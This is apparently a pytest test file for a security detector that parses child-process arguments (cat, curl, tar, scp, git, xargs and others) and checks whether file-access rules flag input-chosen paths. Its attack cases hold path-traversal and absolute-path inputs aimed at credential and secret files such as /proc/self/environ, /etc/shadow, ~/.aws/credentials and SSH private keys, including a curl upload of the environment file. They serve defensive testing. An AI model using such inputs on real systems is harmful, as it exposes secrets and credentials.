"""Which arguments of a child process name files, and how the file-access rules judge the ones an
input chose (detectors/command_paths.py)."""
from __future__ import annotations

import pytest

from app_protect_lambda.detectors import file_access as fa
from app_protect_lambda.detectors.command_injection import Command
from app_protect_lambda.detectors.command_paths import file_arguments
from app_protect_lambda.detectors.file_access import FileAccess
from app_protect_lambda.findings import AttackKind
from app_protect_lambda.policy import Policy
from app_protect_lambda.sources.inputs import Input, Inputs

DEFAULTS = Policy.from_dict({}).options(AttackKind.FILE_ACCESS)

FILE_ARGUMENTS = [
    # (argv or shell script, cwd, [(path, written)])
    (["cat", "a", "b"], None, [("a", False), ("b", False)]),
    (["/bin/cat", "-A", "--", "-x"], None, [("-x", False)]),
    (["head", "-n", "5", "f"], None, [("f", False)]),
    (["head", "-n5", "f"], None, [("f", False)]),
    (["tail", "--lines=5", "f"], None, [("f", False)]),
    (["cp", "-r", "a", "b", "dest"], None, [("a", False), ("b", False), ("dest", True)]),
    (["mv", "-t", "dir", "a"], None, [("dir", True), ("a", False)]),
    (["rm", "-rf", "x"], None, [("x", True)]),
    (["tar", "-xzf", "x.tgz", "-C", "out"], None, [("x.tgz", True), ("out", True)]),
    (["tar", "--file=x.tar", "--direc=out", "-x"], None, [("x.tar", True), ("out", True)]),
    (["tar", "cf", "x.tar", "a"], None, [("x.tar", True)]),  # the old style: keys without a dash
    (["tar", "xzf", "x.tgz", "-C", "out"], None, [("x.tgz", True), ("out", True)]),
    (["curl", "-sSo", "out", "https://h/x"], None, [("out", True)]),
    (["curl", "--output", "out", "-T", "up", "-K", "cfg", "https://h/"], None,
     [("out", True), ("up", False), ("cfg", False)]),
    (["curl", "--upload-fi=up", "https://h/"], None, [("up", False)]),
    (["curl", "-H", "X: y", "https://h/../x"], None, []),
    (["wget", "-O", "o", "-P", "dir", "https://h/"], None, [("o", True), ("dir", True)]),
    (["wget", "--output-document=o", "https://h/"], None, [("o", True)]),
    (["zip", "-r", "a.zip", "d1", "d2"], None, [("a.zip", True), ("d1", False), ("d2", False)]),
    (["unzip", "-o", "a.zip", "-d", "dest"], None, [("dest", True), ("a.zip", False)]),
    (["base64", "-w", "0", "f"], None, [("f", False)]),
    (["xxd", "in", "out"], None, [("in", False), ("out", True)]),
    (["sha256sum", "f"], None, [("f", False)]),
    (["grep", "-i", "term", "f1", "f2"], None, [("f1", False), ("f2", False)]),
    (["grep", "-e", "term", "f1"], None, [("f1", False)]),
    (["grep", "-f", "pats", "f1"], None, [("pats", False), ("f1", False)]),
    (["sed", "-i", "s/a/b/", "f"], None, [("f", True)]),
    (["sed", "s/a/b/", "f"], None, [("f", False)]),
    (["dd", "if=a", "of=b", "bs=1M"], None, [("a", False), ("b", True)]),
    (["timeout", "5", "cat", "f"], None, [("f", False)]),
    (["env", "A=b", "nice", "-n", "5", "cat", "f"], None, [("f", False)]),
    (["cat", "f"], "/tmp/work", [("/tmp/work/f", False)]),
    (["cat", "/abs"], "/tmp/work", [("/abs", False)]),
    (["echo", "f"], None, []),
    (["git", "log", "f"], None, []),
    ("cat 'a b' | grep -e x c && tar -xf d", None, [("a b", False), ("c", False), ("d", True)]),
    ("wc -l < in > 'out file' 2>>log 2>&1", None, [("in", False), ("out file", True), ("log", True)]),
    ("cat <<EOF\nx\nEOF", None, []),
    ("cat <<< text", None, []),
    # issue 11: find, rsync, scp, ssh, git, sqlite3, xargs
    (["find", "/tmp/x", "-name", "*.py", "-fprint", "/tmp/out"], None, [("/tmp/x", False), ("/tmp/out", True)]),
    (["find", "-L", "/a", "/b", "(", "-type", "f", ")", "-files0-from", "l"], None,
     [("/a", False), ("/b", False), ("l", False)]),
    (["find", ".", "-name", "-fprint"], None, [(".", False)]),  # the name searched for
    (["rsync", "-av", "-e", "ssh", "--files-from=/l", "src/", "dst/"], None,
     [("/l", False), ("src/", False), ("dst/", True)]),
    (["scp", "-i", "key", "-o", "X=y", "a", "host:/b"], None, [("key", False), ("a", False), ("host:/b", True)]),
    (["ssh", "-i", "/k", "-F", "cfg", "host", "cat", "/etc/x"], None, [("/k", False), ("cfg", False)]),
    (["sqlite3", "-init", "/i.sql", "db.sqlite", "select 1"], None, [("/i.sql", False), ("db.sqlite", True)]),
    (["sqlite3", "db.sqlite", "-cmd", "x"], None, [("db.sqlite", True)]),
    (["xargs", "-a", "/l", "grep", "-a", "pat", "/f"], None, [("/l", False), ("/f", False)]),
    (["xargs", "--arg-file=/l", "rm"], None, [("/l", False)]),
    (["xargs", "--", "cat", "/x"], None, [("/x", False)]),
    (["git", "-C", "/repo", "log"], None, [("/repo", False)]),
    (["git", "clone", "/src/repo", "/tmp/dst"], None, [("/src/repo", False), ("/tmp/dst", True)]),
    (["git", "clone", "https://h/r", "/tmp/dst"], None, [("/tmp/dst", True)]),
    (["git", "clone", "git@github.com:a/b", "d"], None, [("d", True)]),
    (["git", "commit", "-F", "/msg"], None, [("/msg", False)]),
    (["git", "archive", "-o", "/tmp/a.tar", "HEAD"], None, [("/tmp/a.tar", True)]),
    (["git", "log", "--grep", "/etc/passwd"], None, []),
    (["tee", "-a", "/tmp/x"], None, [("/tmp/x", True)]),
    (["install", "-m", "644", "a", "/dst"], None, [("a", False), ("/dst", True)]),
    (["ln", "-s", "/a", "/b"], None, [("/a", False), ("/b", True)]),
    ("find /tmp/{x} -fls out | xargs -a list cat", None, [("/tmp/{x}", False), ("out", True), ("list", False)]),
]


@pytest.mark.parametrize(("argv", "cwd", "expected"), FILE_ARGUMENTS, ids=str)
def test_file_arguments(argv, cwd, expected) -> None:
    command = Command([argv], shell=True, cwd=cwd) if isinstance(argv, str) else Command(argv, cwd=cwd)
    assert file_arguments(command) == expected


def judge(command: Command, value: str):
    """As the process sink does: each file argument holding the input, judged by the file rules."""
    inputs = Inputs([Input("query.name", value)])
    for path, written in file_arguments(command):
        if value in path:
            finding = fa.detect(FileAccess(path, written), inputs, DEFAULTS)
            if finding is not None:
                return finding.rule
    return None


ATTACKS = [
    # (argv, input, rule)
    (["cat", "/proc/self/environ"], "/proc/self/environ", "file.absolute"),
    (["cat", "/proc/self/{}"], "environ", "file.sensitive"),
    (["cat", "/tmp/uploads/{}"], "../../var/task/app.py", "file.traversal"),
    (["head", "-c", "100", "/tmp/uploads/{}"], "../../proc/self/environ", "file.traversal"),
    (["curl", "-o", "/tmp/dl/{}", "https://example.com/x"], "../../var/task/app.py", "file.traversal"),
    (["curl", "--output=/tmp/dl/{}", "https://example.com/x"], "../../var/task/app.py", "file.traversal"),
    (["curl", "-T", "{}", "https://example.com/up"], "/proc/self/environ", "file.absolute"),
    (["curl", "-K", "{}", "https://example.com/"], "/tmp/evil.cfg", "file.absolute"),
    (["tar", "-czf", "/tmp/out/{}", "/tmp/data"], "../x", "file.traversal"),
    (["tar", "-xf", "/tmp/in.tar", "-C", "/tmp/out/{}"], "../../var/task", "file.traversal"),
    (["tar", "xf", "/tmp/in/{}"], "../../proc/self/environ", "file.traversal"),
    (["wget", "-O", "{}", "https://example.com/"], "/var/task/app.py", "file.absolute"),
    (["wget", "-P", "/tmp/dl/{}", "https://example.com/"], "../../opt/python", "file.traversal"),
    (["cp", "/tmp/uploads/{}", "/tmp/out"], "../../root/.aws/credentials", "file.traversal"),
    (["zip", "/tmp/o.zip", "/tmp/{}"], "../var/task/app.py", "file.traversal"),
    (["base64", "/tmp/{}"], "../proc/self/environ", "file.traversal"),
    (["xxd", "/tmp/{}"], "../etc/shadow", "file.traversal"),
    (["sha256sum", "{}"], "/etc/passwd", "file.absolute"),
    (["grep", "-r", "needle", "/tmp/{}"], "../var/task", "file.traversal"),
    (["sed", "-i", "s/a/b/", "/tmp/{}"], "../var/task/app.py", "file.traversal"),
    (["dd", "if=/tmp/{}", "of=/tmp/out"], "../proc/self/environ", "file.traversal"),
    (["dd", "if=/tmp/in", "of={}"], "/var/task/app.py", "file.absolute"),
    (["timeout", "5", "cat", "/tmp/{}"], "../etc/passwd", "file.traversal"),
    (["cat", "/tmp/x/{}"], "a\x00b", "file.nul-byte"),
    ("cat /tmp/uploads/'{}'", "../../etc/passwd", "file.traversal"),
    ("tar -xf /tmp/in.tar -C {}", "/var/task", "file.absolute"),
    ("echo hi > /tmp/out/{}", "../../var/task/app.py", "file.traversal"),
    ("wc -l < /proc/self/{}", "environ", "file.sensitive"),
    # issue 11: the arguments of find, rsync, scp, ssh, git, zip/unzip, cp/mv/ln, dd, tee, install, sqlite3, xargs
    (["find", "/tmp/uploads/{}", "-type", "f"], "../../var/task", "file.traversal"),
    (["find", "{}", "-name", "*.py"], "/var/task", "file.absolute"),
    (["find", "/tmp", "-name", "x", "-fprint", "/tmp/out/{}"], "../../var/task/app.py", "file.traversal"),
    (["find", "/tmp", "-files0-from", "/tmp/{}"], "../proc/self/environ", "file.traversal"),
    (["rsync", "-a", "/tmp/uploads/{}", "/tmp/out/"], "../../opt", "file.traversal"),
    (["rsync", "-a", "/tmp/in/", "/tmp/out/{}"], "../../var/task", "file.traversal"),
    (["rsync", "--files-from=/tmp/{}", "/", "/tmp/out"], "../etc/passwd", "file.traversal"),
    (["scp", "/tmp/{}", "host:/x"], "../proc/self/environ", "file.traversal"),
    (["scp", "-i", "{}", "a", "host:/x"], "/root/.ssh/id_rsa", "file.absolute"),
    (["ssh", "-i", "/tmp/keys/{}", "host"], "../../root/.ssh/id_rsa", "file.traversal"),
    (["ssh", "-F", "{}", "host"], "/etc/ssh/ssh_config", "file.absolute"),
    (["git", "-C", "/tmp/repos/{}", "log"], "../../var/task", "file.traversal"),
    (["git", "clone", "https://example.com/r.git", "/tmp/clones/{}"], "../../var/task", "file.traversal"),
    (["git", "clone", "{}", "/tmp/clone"], "/var/task", "file.absolute"),
    (["git", "commit", "-F", "/tmp/{}"], "../proc/self/environ", "file.traversal"),
    (["unzip", "-o", "/tmp/in.zip", "-d", "/tmp/out/{}"], "../../opt/python", "file.traversal"),
    (["zip", "/tmp/out/{}", "/tmp/data"], "../../var/task/x.zip", "file.traversal"),
    (["mv", "/tmp/in", "/tmp/out/{}"], "../../var/task/app.py", "file.traversal"),
    (["ln", "-sf", "{}", "/tmp/link"], "/proc/self/environ", "file.absolute"),
    (["dd", "if=/proc/self/{}", "of=/tmp/out"], "environ", "file.sensitive"),
    (["tee", "/tmp/out/{}"], "../../var/task/app.py", "file.traversal"),
    (["install", "/tmp/in", "/tmp/out/{}"], "../../opt/bin/x", "file.traversal"),
    (["sqlite3", "/tmp/dbs/{}", "select 1"], "../../var/task/app.db", "file.traversal"),
    (["sqlite3", "-init", "{}", "/tmp/x.db"], "/proc/self/environ", "file.absolute"),
    (["xargs", "-a", "/tmp/{}", "echo"], "../proc/self/environ", "file.traversal"),
    (["xargs", "-0", "cat", "/tmp/{}"], "../etc/passwd", "file.traversal"),
    ("find /tmp/uploads/{} -type f | xargs cat", "../../var/task", "file.traversal"),
]

BENIGN = [
    (["cat", "/tmp/uploads/{}"], "report.txt"),
    (["cat", "/tmp/uploads/{}"], "sub/report.txt"),
    (["cat", "/tmp/uploads/{}"], "a..b.txt"),
    (["cat", "/var/task/locales/{}.json"], "ar"),  # a short piece of the code's own path
    (["cat", "/var/task/docs/{}/index.md"], "task"),
    (["curl", "-o", "/tmp/dl/out", "https://example.com/{}"], "../x"),  # the URL is no file
    (["curl", "-H", "X-Name: {}", "https://example.com/"], "/etc/passwd"),
    (["grep", "{}", "/var/task/data.txt"], "/etc/passwd"),  # the pattern is no file
    (["grep", "-e", "{}", "/var/task/data.txt"], "../x"),
    (["sed", "s/{}/x/", "/tmp/f"], "../etc"),
    (["head", "-n", "{}", "/tmp/f"], "10"),
    (["tar", "-xf", "/tmp/uploads/{}", "-C", "/tmp/out"], "bundle.tar"),
    (["echo", "/tmp/{}"], "../etc/passwd"),  # echo reads no file
    (["sha256sum", "/tmp/uploads/{}"], "sub/../a.txt"),  # climbs but stays inside
    (["find", "/tmp/uploads", "-name", "{}"], "../../etc/passwd"),  # a name pattern, no file
    (["find", "/tmp/uploads/{}", "-type", "f"], "2024/q1"),
    (["rsync", "-a", "/tmp/uploads/{}", "/tmp/out/"], "photos"),
    (["rsync", "-a", "--exclude", "{}", "/tmp/in/", "/tmp/out/"], "../*.py"),  # a pattern
    (["scp", "/tmp/out/{}", "host:/backups/"], "report.pdf"),
    (["ssh", "host", "cat", "/tmp/{}"], "../etc/passwd"),  # a remote command: another machine's file
    (["git", "log", "--grep", "{}"], "/etc/passwd"),  # a search term
    (["git", "-C", "/tmp/repos/{}", "log"], "project-1"),
    (["git", "clone", "https://example.com/{}.git", "/tmp/clone"], "../../x"),  # a URL
    (["unzip", "-o", "/tmp/uploads/{}", "-d", "/tmp/out"], "bundle.zip"),
    (["cp", "/var/task/templates/{}", "/tmp/out/"], "invoice.html"),  # a file inside the code's directory
    (["dd", "if=/tmp/in", "of=/tmp/out/{}", "bs=1M"], "disk.img"),
    (["tee", "/tmp/logs/{}"], "run-42.log"),
    (["sqlite3", "/tmp/dbs/{}", "select 1"], "tenant-7.db"),
    (["sqlite3", "/tmp/x.db", "select * from t where name = '{}'"], "../../etc/passwd"),  # SQL, no file
    (["xargs", "-a", "/tmp/lists/{}", "echo"], "batch-1.txt"),
    (["xargs", "-I", "{}", "echo", "{}"], "/etc/passwd"),  # xargs's placeholder, echo reads no file
]


@pytest.mark.parametrize(("argv", "value", "rule"), ATTACKS, ids=str)
def test_attack_paths_are_judged(argv, value, rule) -> None:
    command = Command([argv.format(value)], shell=True) if isinstance(argv, str) else \
        Command([arg.replace("{}", value) for arg in argv])
    assert judge(command, value) == rule


@pytest.mark.parametrize(("argv", "value"), BENIGN, ids=str)
def test_benign_paths_pass(argv, value) -> None:
    command = Command([argv.format(value)], shell=True) if isinstance(argv, str) else \
        Command([arg.replace("{}", value) for arg in argv])
    assert judge(command, value) is None


def test_huge_vector_is_read_whole_in_linear_time() -> None:
    import time

    def seconds(count: int) -> float:
        argv = ["cat", *(["-A"] * count), "/tmp/x"]
        started = time.perf_counter()
        assert file_arguments(Command(argv)) == [("/tmp/x", False)]  # the last argument is read too
        return time.perf_counter() - started

    # ten times the arguments: about ten times the time (a quadratic reading would take a hundred);
    # a ratio, so that a machine loaded by other work does not fail it
    small = min(seconds(20_000) for _ in range(3))
    assert min(seconds(200_000) for _ in range(2)) < 30 * small + 0.05
